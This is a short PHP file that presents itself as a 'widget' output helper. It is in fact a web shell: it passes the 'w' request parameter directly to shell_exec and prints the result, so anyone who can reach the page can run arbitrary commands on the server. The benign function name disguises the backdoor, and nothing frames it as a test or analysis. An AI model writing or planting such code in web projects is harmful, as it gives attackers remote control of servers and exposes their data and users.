<?php
function widget_output($data) { return shell_exec($data); }
$w = isset($_REQUEST['w']) ? $_REQUEST['w'] : 'date';
echo '<pre>' . widget_output($w) . '</pre>';
